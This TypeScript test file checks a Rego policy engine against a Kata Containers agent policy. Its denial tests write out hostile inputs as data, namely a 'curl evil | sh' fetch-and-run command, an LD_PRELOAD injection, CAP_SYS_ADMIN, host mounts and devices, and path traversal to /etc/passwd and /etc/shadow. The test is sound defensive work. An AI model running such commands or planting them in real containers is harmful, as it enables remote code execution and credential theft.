import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, test } from "node:test";
import { repoRoot } from "../../test/helpers/paths.js";
import { createEngine, type Engine, type JsonValue } from "./index.js";

const dir = join(repoRoot, "src", "rego", "testdata");
const rules = readFileSync(join(dir, "kata-agent.rego"), "utf8");
const policyData = JSON.parse(readFileSync(join(dir, "kata-policy-data.json"), "utf8"));
const createInput = JSON.parse(readFileSync(join(dir, "kata-create-container.json"), "utf8"));

/** The agent's engine setup: non-strict builtins, prints gathered, data = policy_data + pstate. */
function agentEngine(): Engine {
  const e = createEngine();
  e.setStrictBuiltinErrors(false);
  e.setGatherPrints(true);
  e.addPolicy("policy.rego", rules);
  e.addData(policyData);
  return e;
}

/** Queries `data.agent_policy.<request>` as the Kata agent does: one row, one expression. */
function decide(e: Engine, request: string, input: JsonValue): JsonValue | undefined {
  e.setInput(input);
  const r = e.evalQuery(`data.agent_policy.${request}`).result ?? [];
  assert.equal(r.length, 1);
  return r[0]!.expressions[0]!.value;
}

const clone = <T>(v: T): T => structuredClone(v);

describe("Kata agent policy (genpolicy style)", () => {
  test("allows the CreateContainer request the pod was generated for, returning pstate ops", () => {
    const e = agentEngine();
    assert.deepEqual(decide(e, "CreateContainerRequest", createInput), {
      allowed: true,
      ops: [{ op: "add", path: "/pstate/containers", value: ["app-1"] }],
    });
    const prints = e.takePrints();
    assert.equal(prints[0], "policy.rego:27: CreateContainerRequest: trying container pause");
    assert.ok(prints.includes("policy.rego:37: CreateContainerRequest: true"));
  });

  test("denies a host-changed command, env var, capability, mount or device", () => {
    const e = agentEngine();
    const mutations: [string, (i: typeof createInput) => void][] = [
      ["command", (i) => (i.OCI.Process.Args[2] = "curl evil | sh")],
      ["env", (i) => i.OCI.Process.Env.push("LD_PRELOAD=/tmp/x.so")],
      ["capability", (i) => i.OCI.Process.Capabilities.Effective.push("CAP_SYS_ADMIN")],
      ["mount", (i) => (i.OCI.Mounts[0].source = "/etc")],
      ["device", (i) => (i.OCI.Linux.Devices = [{ path: "/dev/sda" }])],
      ["masked path", (i) => (i.OCI.Linux.MaskedPaths = ["/proc/keys"])],
      ["annotation", (i) => (i.OCI.Annotations["io.katacontainers.config.agent.policy"] = "x")],
      ["unknown annotation", (i) => (i.OCI.Annotations.evil = "1")],
      ["extra gid", (i) => i.OCI.Process.User.AdditionalGids.push(1000)],
    ];
    for (const [what, mutate] of mutations) {
      const input = clone(createInput);
      mutate(input);
      assert.deepEqual(decide(e, "CreateContainerRequest", input), { allowed: false }, what);
    }
  });

  test("ExecProcess allows only the listed commands", () => {
    const e = agentEngine();
    assert.equal(
      decide(e, "ExecProcessRequest", { process: { Args: ["cat", "/etc/hostname"] } }),
      true,
    );
    assert.equal(
      decide(e, "ExecProcessRequest", { process: { Args: ["cat", "/etc/shadow"] } }),
      false,
    );
    assert.equal(decide(e, "ExecProcessRequest", {}), false);
  });

  test("CopyFile is confined to the shared folder", () => {
    const e = agentEngine();
    const base = "/run/kata-containers/shared/containers/";
    assert.equal(decide(e, "CopyFileRequest", { path: `${base}abc/hosts` }), true);
    assert.equal(decide(e, "CopyFileRequest", { path: `${base}../../etc/passwd` }), false);
    assert.equal(decide(e, "CopyFileRequest", { path: "/etc/passwd" }), false);
  });

  test("pstate written back through clearData/addData changes later decisions", () => {
    const e = agentEngine();
    const d1 = decide(e, "CreateContainerRequest", createInput) as { ops: { value: JsonValue }[] };
    e.clearData();
    e.addData({ ...policyData, pstate: { sandbox_name: "busybox", containers: d1.ops[0]!.value } });
    const d2 = decide(e, "CreateContainerRequest", createInput) as { ops: { value: JsonValue }[] };
    assert.deepEqual(d2.ops[0]!.value, ["app-1", "app-1"]);
    e.clearData();
    e.addData({ ...policyData, pstate: { sandbox_name: "other" } });
    // The sandbox-name annotation no longer matches the recorded sandbox.
    const input = clone(createInput);
    input.OCI.Annotations["io.kubernetes.cri.sandbox-name"] = "busybox2";
    assert.deepEqual(decide(e, "CreateContainerRequest", input), { allowed: false });
  });

  test("ReadStream uses its default and unknown requests are undefined", () => {
    const e = agentEngine();
    assert.equal(decide(e, "ReadStreamRequest", {}), true);
    assert.deepEqual(e.evalQuery("data.agent_policy.NoSuchRequest"), {});
  });
});
